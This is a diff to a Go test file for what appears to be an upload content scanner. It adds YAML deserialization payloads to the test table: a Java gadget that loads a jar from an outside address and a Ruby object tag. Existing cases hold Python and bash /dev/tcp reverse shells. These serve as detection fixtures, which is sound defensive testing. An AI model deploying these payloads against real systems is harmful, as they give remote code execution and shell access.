@@ -62,6 +62,11 @@ func TestUploadContent(t *testing.T) {
 		{"figure.eps", "application/postscript", "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\nnewpath 0 0 moveto 100 100 lineto stroke showpage", ""},
 		{"drawing.mvg", "text/plain", "push graphic-context\nviewbox 0 0 100 100\nfill red\ncircle 50,50 50,10\npop graphic-context", ""},
 
+		// YAML with a class tag its loader builds.
+		{"settings.yml", "application/x-yaml", "!!javax.script.ScriptEngineManager [\n  !!java.net.URLClassLoader [[\n    !!java.net.URL [\"http://198.51.100.23/y.jar\"]\n  ]]\n]", "deserialization-object"},
+		{"model.yaml", "text/yaml", "--- !ruby/object:Gem::Installer\ni: x\n", "deserialization-object"},
+		{"config.yml", "application/x-yaml", "server:\n  port: 8080\n  tags: [a, b]\n", ""},
+
 		// Reverse shells in source files.
 		{"shell.py", "text/x-python", "import os,socket,subprocess\ns=socket.socket();s.connect(('10.10.14.7',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\nsubprocess.call(['/bin/sh','-i'])", "upload-reverse-shell"},
 		{"rev.js", "application/javascript", "require('child_process').exec('bash -c \"bash -i >& /dev/tcp/10.10.14.7/4444 0>&1\"')", "upload-reverse-shell"},
